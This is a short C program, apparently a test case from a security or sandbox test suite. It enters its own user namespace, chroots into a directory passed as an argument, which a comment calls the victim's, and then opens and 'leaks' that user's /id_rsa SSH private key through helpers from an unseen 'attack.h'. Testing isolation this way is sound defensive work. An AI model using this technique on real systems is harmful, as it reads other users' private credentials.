/* SPDX-License-Identifier: Apache-2.0 */
/* chroot() into the victim's directory in an own user namespace: the path becomes /id_rsa. */
#define ATTACK "chroot"
#include "attack.h"

int main(int count, char **argument)
{
	(void)count;
	become_namespace_root(0);
	prepare("chroot", chroot(argument[1]));
	prepare("chdir", chdir("/"));
	open_and_leak("/id_rsa");
}
